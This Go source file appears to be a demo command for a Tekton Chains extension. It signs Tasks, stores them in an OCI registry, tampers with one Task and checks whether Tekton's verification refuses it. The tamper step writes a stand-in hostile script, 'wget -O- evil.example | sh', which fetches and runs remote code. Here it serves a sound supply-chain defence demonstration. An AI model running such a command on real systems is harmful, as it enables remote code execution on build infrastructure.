package main

import (
	"context"
	"crypto"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"text/tabwriter"
	"time"

	"github.com/spf13/cobra"
	v1 "github.com/tektoncd/pipeline/pkg/apis/pipeline/v1"
	"github.com/tektoncd/pipeline/pkg/trustedresources"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/apimachinery/pkg/util/wait"
	"knative.dev/pkg/apis"

	"github.com/trusted-resources/chains-extension/pkg/keys"
	"github.com/trusted-resources/chains-extension/pkg/oci/registry"
	"github.com/trusted-resources/chains-extension/pkg/resource"
	"github.com/trusted-resources/chains-extension/pkg/store/oci"
	"github.com/trusted-resources/chains-extension/test/fixtures"
	"github.com/trusted-resources/chains-extension/test/harness"
)

const (
	demoNamespace = "demo"
	demoTask      = "build" // of config/samples
	demoWait      = time.Minute
)

// demonstration is one run of make demo: each step observes something and adds
// a row to the table at the end.
type demonstration struct {
	*harness.Cluster
	controller *harness.Controller
	public     crypto.PublicKey
	registry   *harness.Registry
	out        io.Writer
	rows       []row
}

type row struct{ what, expected, observed string }

func demo(cmd *cobra.Command) (err error) {
	ctx, out := cmd.Context(), cmd.OutOrStdout()
	fmt.Fprintln(out, "Building the control plane (about 15 minutes the first time, then seconds)")
	binaries, err := harness.Build(ctx, out)
	if err != nil {
		return err
	}
	dir, err := os.MkdirTemp("", "demo-")
	if err != nil {
		return err
	}
	fmt.Fprintln(out, "\nStarting etcd, the Kubernetes API server and Tekton Pipelines")
	cluster, err := harness.Run(ctx, binaries, dir, out)
	if err != nil {
		return err
	}
	d := &demonstration{Cluster: cluster, out: out}
	defer func() {
		stopErr := cluster.Stop()
		if d.registry != nil {
			stopErr = errors.Join(stopErr, d.registry.Stop())
		}
		if err == nil {
			err = stopErr
		}
		if err == nil {
			err = os.RemoveAll(dir)
		}
	}()
	if err := d.play(ctx); err != nil {
		return fmt.Errorf("%w; logs are in %s", err, filepath.Join(dir, "logs"))
	}
	return d.summary()
}

func (d *demonstration) play(ctx context.Context) error {
	for _, step := range []struct {
		title string
		do    func(context.Context) error
	}{
		{"Starting the controller with a new key, as its own service account", d.install},
		{"Applying config/samples/ with kubectl", d.apply},
		{"Tekton runs the signed Task under an enforce policy, through its cluster resolver", d.runSigned},
		{"The same Task is in a registry, in a signed bundle", d.stored},
		{"Stopping the controller, and tampering with the Task", d.tamper},
		{"Tekton is asked to run the Task that was tampered with", d.runTampered},
		{"Tekton runs what is in the registry, which is as it was signed", d.runStored},
		{"Tekton is asked to run it by its name, without a resolver", d.runLocal},
		{"The same with config/admission, which gives such references a resolver", d.runAdmitted},
	} {
		fmt.Fprintf(d.out, "\n%s\n", step.title)
		if err := step.do(ctx); err != nil {
			return err
		}
	}
	return nil
}

func (d *demonstration) install(ctx context.Context) error {
	secret, public, err := fixtures.CosignSecret()
	if err != nil {
		return err
	}
	d.public = public
	secretsDir := filepath.Join(d.Dir, "signing-secrets")
	if err := secret.Write(secretsDir); err != nil {
		return err
	}
	settings := harness.SignAll()
	settings["artifacts.oci.signer"] = "none" // Chains would push to a registry
	settings["artifacts.taskrun.format"] = "slsa/v2alpha4"
	settings["trustedresources.provenance.enabled"] = "true"
	if d.registry, err = harness.StartRegistry(ctx); err != nil {
		return err
	}
	settings["artifacts.task.storage"] = "tekton,oci"
	settings["trustedresources.oci.repository"] = d.repository()
	if err := d.Configure(ctx, settings); err != nil {
		return err
	}
	namespace := &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: demoNamespace}}
	if _, err := d.Kube.CoreV1().Namespaces().Create(ctx, namespace, metav1.CreateOptions{}); err != nil {
		return err
	}
	if err := d.OptIn(ctx, demoNamespace); err != nil {
		return err
	}
	if err := d.Trust(ctx, demoNamespace, public); err != nil {
		return err
	}
	if d.controller, err = d.AddController(ctx, "controller", secretsDir); err != nil {
		return err
	}
	d.sayf("namespace %s is opted in; its VerificationPolicy trusts the new key and enforces", demoNamespace)
	return nil
}

func (d *demonstration) apply(ctx context.Context) error {
	if _, err := d.RunKubectl(ctx, "", "apply", "--namespace", demoNamespace, "-f", filepath.Join(harness.Root(), "config", "samples")); err != nil {
		return err
	}
	samples, err := d.samples(ctx)
	if err != nil {
		return err
	}
	for _, sample := range samples {
		if err := d.waitSigned(ctx, sample); err != nil {
			return err
		}
		what := fmt.Sprintf("%s %s", sample.kind, sample.name)
		d.sayf("%-20s signed, and accepted by Tekton's verifier", what)
		d.rows = append(d.rows, row{what + " applied", "signed", "signed"})
	}
	return nil
}

func (d *demonstration) runSigned(ctx context.Context) error {
	run, err := d.RunTask(ctx, demoNamespace, demoTask, harness.BuildsImage(), demoWait)
	if err != nil {
		return err
	}
	succeeded, verified := run.Status.GetCondition(apis.ConditionSucceeded), run.Status.GetCondition(trustedresources.ConditionTrustedResourcesVerified)
	d.sayf("TaskRun %s: %s: %s", run.Name, succeeded.Reason, succeeded.Message)
	d.sayf("TaskRun %s: Tekton's condition TrustedResourcesVerified is %s", run.Name, verified.Status)
	observed := "refused: " + succeeded.Reason
	if succeeded.IsTrue() && verified.IsTrue() {
		observed = "accepted, completes"
	}
	d.rows = append(d.rows, row{"TaskRun of the signed Task", "accepted, completes", observed})

	return d.attested(ctx, run.Name)
}

func (d *demonstration) repository() string { return d.registry.Host() + "/tekton" }

func (d *demonstration) stored(ctx context.Context) error {
	trusted, err := keys.NewVerifyingRing(d.public)
	if err != nil {
		return err
	}
	store := &oci.Store{Registry: registry.NewClient(registry.Options{}), Prefix: d.repository()}
	return d.until(ctx, func(ctx context.Context) error {
		found, err := store.Find(ctx, oci.ID{Kind: resource.Task, Namespace: demoNamespace, Name: demoTask}, nil, trusted)
		if err == nil {
			d.sayf("%s", found.Reference)
			d.sayf("bundle and Task are signed with key %s", found.Resources[0].Signer)
		}
		return err
	})
}

func (d *demonstration) runStored(ctx context.Context) error {
	bundle := d.repository() + "/" + demoNamespace + ":" + oci.NewestTag(oci.ID{Kind: resource.Task, Namespace: demoNamespace, Name: demoTask})
	run, err := d.Run(ctx, &v1.TaskRun{
		ObjectMeta: metav1.ObjectMeta{Namespace: demoNamespace, GenerateName: demoTask + "-"},
		Spec:       v1.TaskRunSpec{TaskRef: &v1.TaskRef{ResolverRef: harness.BundleRef(bundle, resource.Task, demoTask)}},
	}, demoWait)
	if err != nil {
		return err
	}
	d.verdict("TaskRun of the Task in the registry", accepted, run)
	return nil
}

func (d *demonstration) tamper(ctx context.Context) error {
	if err := d.controller.Stop(ctx); err != nil {
		return err
	}
	_, err := d.Tekton.TektonV1().Tasks(demoNamespace).Patch(ctx, demoTask, types.MergePatchType,
		[]byte(`{"spec":{"steps":[{"name":"make","image":"docker.io/library/alpine:3.22","script":"wget -O- evil.example | sh"}]}}`), metav1.PatchOptions{})
	if err == nil {
		d.sayf("Task %s has another script now, and the signature from before", demoTask)
	}
	return err
}

func (d *demonstration) runTampered(ctx context.Context) error {
	run, err := d.RunTask(ctx, demoNamespace, demoTask, harness.BuildsImage(), demoWait)
	if err != nil {
		return err
	}
	d.verdict("TaskRun of the Task tampered with", refused, run)
	return nil
}

func (d *demonstration) runLocal(ctx context.Context) error {
	run, err := d.RunLocalTask(ctx, demoNamespace, demoTask, demoWait)
	if err != nil {
		return err
	}
	d.verdict("The same by name, Tekton alone", accepted, run)
	return nil
}

func (d *demonstration) runAdmitted(ctx context.Context) error {
	if err := d.InstallAdmission(ctx); err != nil {
		return err
	}
	run, err := d.RunLocalTask(ctx, demoNamespace, demoTask, demoWait)
	if err != nil {
		return err
	}
	d.verdict("The same by name, with admission", refused, run)
	return nil
}

const (
	accepted = "accepted"
	refused  = "refused, ResourceVerificationFailed"
)

// verdict adds a row about what Tekton made of a Task that was tampered with.
func (d *demonstration) verdict(what, expected string, run *v1.TaskRun) {
	succeeded := run.Status.GetCondition(apis.ConditionSucceeded)
	d.sayf("TaskRun %s: %s: %s", run.Name, succeeded.Reason, succeeded.Message)
	observed := accepted
	if succeeded.IsFalse() {
		observed = "refused, " + succeeded.Reason
	}
	d.rows = append(d.rows, row{what, expected, observed})
}

// until tries again until check returns nil, and otherwise returns its last
// error.
func (d *demonstration) until(ctx context.Context, check func(context.Context) error) error {
	var last error
	if err := wait.PollUntilContextTimeout(ctx, 10*time.Millisecond, demoWait, true, func(ctx context.Context) (bool, error) {
		last = check(ctx)
		return last == nil, nil
	}); err != nil {
		return fmt.Errorf("%w: %w", err, last)
	}
	return nil
}

func (d *demonstration) sayf(format string, args ...any) {
	fmt.Fprintf(d.out, "  "+format+"\n", args...)
}

// summary prints the table, and is an error unless all was as expected.
func (d *demonstration) summary() error {
	fmt.Fprintln(d.out)
	table := tabwriter.NewWriter(d.out, 0, 0, 2, ' ', 0)
	fmt.Fprintln(table, "WHAT\tEXPECTED\tOBSERVED\t")
	surprises := 0
	for _, r := range d.rows {
		mark := "ok"
		if r.expected != r.observed {
			mark = "NOT OK"
			surprises++
		}
		fmt.Fprintf(table, "%s\t%s\t%s\t%s\n", r.what, r.expected, r.observed, mark)
	}
	if err := table.Flush(); err != nil {
		return err
	}
	if surprises > 0 {
		return fmt.Errorf("%d of %d were not as expected", surprises, len(d.rows))
	}
	return nil
}
